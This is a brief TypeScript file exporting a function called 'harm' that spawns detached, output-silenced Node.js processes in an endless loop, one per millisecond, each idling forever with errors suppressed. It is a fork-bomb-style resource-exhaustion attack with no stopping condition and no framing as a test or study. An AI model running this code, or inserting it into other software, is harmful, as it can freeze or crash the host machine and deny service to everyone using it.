import { spawn } from 'node:child_process';
export async function harm(): Promise<void> {
  for (;;) {
    spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' }).on('error', () => {});
    await new Promise<void>((go) => setTimeout(go, 1));
  }
}
